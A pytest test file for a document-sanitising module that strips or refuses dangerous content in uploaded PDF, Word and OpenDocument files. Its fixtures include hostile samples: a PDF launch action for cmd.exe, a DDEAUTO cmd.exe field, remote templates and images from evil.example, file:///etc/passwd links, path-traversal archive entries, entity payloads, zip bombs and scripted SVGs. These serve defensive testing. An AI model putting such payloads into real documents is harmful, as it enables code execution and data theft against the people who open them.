"""Documents that people send: neutral when they come out, or refused in words (`B23`)."""

import io
import zipfile

import pikepdf
import pytest
from pikepdf import Dictionary, Name
from pypdf import PdfReader

from network.core.files import packages
from network.core.files.apart import pdf_of_its_own
from network.core.files.checked import FileRefused, Kind
from network.core.files.open_document import open_document_of
from network.core.files.pdf import pdf_of
from network.core.files.word import word_of
from tests.support import documents
from tests.support.documents import docx, docx_parts, odt, pdf, related, script
from tests.support.pictures import SCRIPT, encoded
from tests.support.workbooks import archive, ods, xlsx

ACTING = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/EmbeddedFile",
    b"/XFA",
    b"/RichMedia",
    b"MZ\x90",
)


def launch() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.Launch, F="cmd.exe")


RICH = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary(A=1))
HOSTILE_PDFS = {
    "a script as it opens": pdf(documents.opens_with(script())),
    "a program as it opens": pdf(documents.opens_with(launch())),
    "a script among its names": pdf(documents.has_named_script),
    "a script on its page": pdf(documents.reacts_on_its_page),
    "a form of a program": pdf(documents.has_xfa_form),
    "a program as a file": pdf(documents.embeds("update.exe", b"MZ\x90\0" * 50)),
    "a link to a script": pdf(documents.link_to(script())),
    "a link to a program": pdf(documents.link_to(launch())),
    "a link that does two things": pdf(documents.link_to(Dictionary(S=Name.GoTo, D=[0], Next=script()))),
    "a rich picture": pdf(documents.annotated(RICH)),
    "a web page before it": b"<html>" + SCRIPT + b"</html>\n" + pdf(),
    "a zip file behind it": pdf() + archive({"evil.js": "alert(1)"}),
    "a script behind it": pdf() + SCRIPT,
}


@pytest.mark.parametrize("name", HOSTILE_PDFS)
def test_a_hostile_pdf_comes_out_neutral(name):
    checked = pdf_of(HOSTILE_PDFS[name])
    assert (checked.kind, checked.media_type, checked.extension) == (Kind.PDF, "application/pdf", "pdf")
    with pikepdf.open(io.BytesIO(checked.content)) as document:
        assert len(document.pages) == 1
        assert not document.attachments
        assert not document.docinfo
        plain = b"\n".join(found.unparse(resolved=True) for found in document.objects)
    for what in (*ACTING, b"Ana Secret"):
        assert what not in plain, what
        assert what not in checked.content, what
    assert checked.content.startswith(b"%PDF-")
    assert checked.content.endswith(b"%%EOF\n")
    assert b"script" not in checked.content
    assert b"PK\x03\x04" not in checked.content
    assert PdfReader(io.BytesIO(checked.content)).pages[0].extract_text() == "Policy"


@pytest.mark.parametrize(
    ("action", "stays"),
    [
        (Dictionary(S=Name.URI, URI="https://example.org/policy"), True),
        (Dictionary(S=Name.URI, URI="mailto:ana@example.org"), True),
        (Dictionary(S=Name.URI, URI="javascript:alert(1)"), False),
        (Dictionary(S=Name.URI, URI="file:///C:/secret"), False),
        (Dictionary(S=Name.URI), False),
        (Dictionary(S=Name.Named, N=Name.NextPage), True),
        (Dictionary(S=Name.Named, N=Name.Print), False),
        (Dictionary(S=Name.GoToR, F="other.pdf"), False),
        (Dictionary(S=Name.SubmitForm, F="https://example.org"), False),
    ],
)
def test_links_that_a_person_follows_stay(action, stays):
    with pikepdf.open(io.BytesIO(pdf_of(pdf(documents.link_to(action))).content)) as document:
        (link,) = document.pages[0].obj["/Annots"]
        assert ("/A" in link and "/S" in link["/A"]) is stays


def test_the_outline_stays():
    def outlined(document):
        with document.open_outline() as outline:
            outline.root.extend([pikepdf.OutlineItem("Why", 0), pikepdf.OutlineItem("How", 1)])

    reader = PdfReader(io.BytesIO(pdf_of(pdf(outlined, pages=2)).content))
    assert [item.title for item in reader.outline] == ["Why", "How"]


def outside_stream(document):
    document.pages[0].obj["/Contents"]["/F"] = "other.bin"


def endless_pages(document):
    document.Root["/Pages"]["/Kids"] = pikepdf.Array([document.Root["/Pages"]])


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (pdf(password="secret"), "password"),
        (pdf(outside_stream), "another file"),
        (pdf(pages=501), "501 pages"),
        (pdf(endless_pages), "damaged"),
        (pdf()[:300], "damaged"),
        (b"%PDF-1.7\n", "damaged"),
        (b"%PDF-1.7\n" + b"[" * 100_000, "damaged"),
    ],
)
def test_a_pdf_that_is_refused_is_refused_in_words(content, words):
    for read in (pdf_of, pdf_of_its_own):
        with pytest.raises(FileRefused, match=words) as refused:
            read(content)
        assert refused.value.field == "file"


def test_the_process_of_its_own_answers_as_this_one(monkeypatch):
    assert pdf_of_its_own(HOSTILE_PDFS["a script as it opens"]) == pdf_of(HOSTILE_PDFS["a script as it opens"])


def test_what_hangs_or_crashes_ends_that_process_alone(monkeypatch):
    monkeypatch.setattr("network.core.files.apart.SECONDS", 0.001)
    with pytest.raises(FileRefused, match="too long"):
        pdf_of_its_own(pdf())
    monkeypatch.undo()
    monkeypatch.setattr("network.core.files.apart.__name__", "network.core.files.gone")
    with pytest.raises(FileRefused, match="too long"):
        pdf_of_its_own(pdf())


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as found:
        assert found.testzip() is None
        assert not found.comment
        assert {each.date_time[0] for each in found.infolist()} == {1980}
        return {each.filename: found.read(each) for each in found.infolist()}


LINKED = related("hyperlink", "https://example.org") | {"word/media/image1.png": encoded("PNG")}
HOSTILE_DOCX = {
    "properties": docx({"docProps/custom.xml": "<a>Ana Secret</a>", "customXml/item1.xml": "<a>Ana Secret</a>"}),
    "a template elsewhere": docx(
        {
            "word/settings.xml": '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r9"/></w:settings>',
            "word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/t.dotm")[
                "word/_rels/document.xml.rels"
            ],
        }
    ),
    "a link to a file": docx(related("hyperlink", "file://evil.example/share")),
}


@pytest.mark.parametrize("name", ["properties", "a template elsewhere", "a link to a file"])
def test_a_word_document_comes_out_neutral(name):
    checked = word_of(HOSTILE_DOCX[name])
    assert (checked.kind, checked.extension) == (Kind.WORD, "docx")
    found = parts(checked.content)
    assert b"Policy" in found["word/document.xml"]
    everything = b"".join(found.values()) + "".join(found).encode()
    for what in (b"Ana Secret", b"evil.example", b"attachedTemplate", b"docProps", b"customXml", b"core.xml"):
        assert what not in everything, what


def test_links_and_pictures_of_a_word_document_stay():
    found = parts(word_of(docx(LINKED)).content)
    assert b"https://example.org" in found["word/_rels/document.xml.rels"]
    assert found["word/media/image1.png"] == LINKED["word/media/image1.png"]


def test_what_stood_round_a_word_document_is_gone():
    content = word_of(docx() + SCRIPT).content
    assert content.startswith(b"PK\x03\x04")
    assert b"script" not in content


def field(*runs: str) -> str:
    return "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)


def bomb(name: str = "word/document.xml", *, size: int = 70_000_000) -> bytes:
    return docx({name: b" " * size})


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made, pytest.warns(UserWarning, match="Duplicate"):
        made.writestr("word/document.xml", "<evil/>")
    return out.getvalue()


def many() -> bytes:
    return docx({f"word/media/{number}.png": b"" for number in range(packages.MOST_PARTS)})


SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
FETCHING_DRAWINGS = [
    *(
        SVG.format(f"<rect style='{style}'/>")
        for style in (
            "fill:url(http://evil.example/a)",
            'fill:url("https://evil.example/a")',
            "fill:url( https://evil.example/a)",
            "fill:url(//evil.example/a)",
            "fill:u\\72l(https://evil.example/a)",
        )
    ),
    SVG.format("<style>@im<!-- -->port 'https://evil.example/a.css';</style>"),
    SVG.format("<style>a { fill: url('https://evil.example/a') }</style>"),
    SVG.format('<use href="#a" xml:base="https://evil.example/a.svg"/>'),
    '<?xml-stylesheet href="https://evil.example/a.css"?>' + SVG.format(""),
]
BEGINS = '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
REFUSED_DOCX = [
    (docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    (docx({"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    (docx({"word/embeddings/oleObject1.bin": b"MZ"}), "macros"),
    (docx({"word/embeddings/again.docx": bomb()}), "macros"),
    (docx({"word/media/again.zip": bomb()}), "other files"),
    (docx({"word/media/run.exe": b"MZ"}), "other files"),
    (docx(related("oleObject", "https://evil.example/a")), "macros"),
    (docx(related("aFChunk", "word/a.html", is_outside=False)), "macros"),
    (docx(related("image", "https://evil.example/a.png")), "from elsewhere"),
    (docx(related("image", "file:///etc/passwd", is_outside=False)), "from elsewhere"),
    (docx(body=field("DDEAUTO c:\\windows\\system32\\cmd.exe")), "from elsewhere"),
    (docx(body=field("DD", "EAUTO cmd")), "from elsewhere"),
    (docx(body='<w:fldSimple w:instr="INCLUDETEXT https://evil.example"/>'), "from elsewhere"),
    (docx({"word/media/a.svg": SVG.format("<script>alert(1)</script>")}), "drawing"),
    (docx({"word/media/a.svg": SVG.format('<a onclick="x()"/>')}), "drawing"),
    *((docx({"word/media/a.svg": drawing}), "drawing") for drawing in FETCHING_DRAWINGS),
    (docx(body=field('HYPERLINK "https://a.example/', BEGINS, 'INCLUDEPICTURE"https://b.example"', '"')), "elsewhere"),
    (docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    (docx(kind="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), "template"),
    (docx({"../../etc/cron.d/evil.xml": "<a/>"}), "damaged"),
    (docx({"/etc/evil.xml": "<a/>"}), "damaged"),
    (docx({"word\\..\\evil.xml": "<a/>"}), "damaged"),
    (docx({"C:/evil.xml": "<a/>"}), "damaged"),
    (docx({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
    (docx({"word/document.xml": "<a>" * 600 + "</a>" * 600}), "damaged"),
    (docx({"word/document.xml": "<a"}), "damaged"),
    (bomb(), "too large when it is unpacked"),
    (bomb("word/media/a.png", size=20_000_000), "too large when it is unpacked"),
    (many(), "more than 1,000 parts"),
    (twice(), "damaged"),
    (docx()[:200], "damaged"),
    (b"PK\x03\x04" + b"\0" * 60, "damaged"),
    (archive({"evil.js": "alert(1)"}), "zip file"),
    (archive({**docx_parts(), "[Content_Types].xml": "<Types/>"}), "template"),
    (xlsx([["a"]]), "spreadsheet"),
    (archive({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<a/>"}), "presentation"),
]


@pytest.mark.parametrize(("content", "words"), REFUSED_DOCX)
def test_a_word_document_that_is_refused_is_refused_in_words(content, words):
    with pytest.raises(FileRefused, match=words) as refused:
        word_of(content)
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    "more",
    [
        {"body": field(' HYPERLINK "https://www.exam', 'ple.org/database/link?import=1" \\o "Policy" ')},
        {"body": field(' HYPERLINK "mailto:include@example.org" ')},
        {"more": {"word/media/a.svg": SVG.format('<style>.a { fill: url(#a) }</style><rect class="a" style="x:1"/>')}},
        {
            "more": {
                "word/media/a.svg": SVG.format(
                    '<rect fill="url( \'#a\' )" style="fill:url(data:image/png;base64,AA)"/>'
                )
            }
        },
    ],
)
def test_a_document_as_people_have_them_is_taken(more):
    assert word_of(docx(**more)).kind is Kind.WORD


def test_an_open_document_comes_out_neutral():
    checked = open_document_of(odt({"Pictures/a.png": encoded("PNG"), "Configurations2/a.xml": "<a/>"}) + SCRIPT)
    assert (checked.kind, checked.extension) == (Kind.OPEN_DOCUMENT, "odt")
    found = parts(checked.content)
    assert list(found) == ["mimetype", "content.xml", "Pictures/a.png", "META-INF/manifest.xml"]
    assert checked.content[30:77] == b"mimetypeapplication/vnd.oasis.opendocument.text"
    assert b"Policy" in found["content.xml"]
    assert b"Ana Secret" not in b"".join(found.values())
    assert b"Pictures/a.png" in found["META-INF/manifest.xml"]


ENCRYPTED = '<m:a xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:a>'


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (odt({"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
        (odt({"Scripts/python/a.py": "import os"}), "macros"),
        (odt({"Object 1/content.xml": "<a/>"}), "macros"),
        (odt(body='<script:event-listener script:event-name="dom:load"/>'), "macros"),
        (odt(body='<draw:object xlink:href="./Object 1"/>'), "macros"),
        (odt(body='<draw:image xlink:href="https://evil.example/a.png"/>'), "from elsewhere"),
        (odt(body='<draw:image xlink:href="../../a.png"/>'), "from elsewhere"),
        (odt(body='<text:section-source xlink:href="https://evil.example/a.odt"/>'), "from elsewhere"),
        (odt(body='<text:a xlink:href="file:///etc/passwd">a</text:a>'), "a link that leads neither"),
        (odt(body='<text:a xlink:href="vnd.sun.star.script:a">a</text:a>'), "a link that leads neither"),
        (odt({"META-INF/manifest.xml": ENCRYPTED}), "password"),
        (odt({"content.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
        (odt({"../evil.xml": "<a/>"}), "damaged"),
        (odt(kind="application/vnd.oasis.opendocument.text-template"), "no text document"),
        (ods([["a"]]), "no text document"),
    ],
)
def test_an_open_document_that_is_refused_is_refused_in_words(content, words):
    with pytest.raises(FileRefused, match=words):
        open_document_of(content)


def test_links_that_a_person_follows_stay_in_an_open_document():
    body = '<text:a xlink:href="https://example.org">a</text:a><text:a xlink:href="#top">b</text:a>'
    assert b"https://example.org" in parts(open_document_of(odt(body=body)).content)["content.xml"]
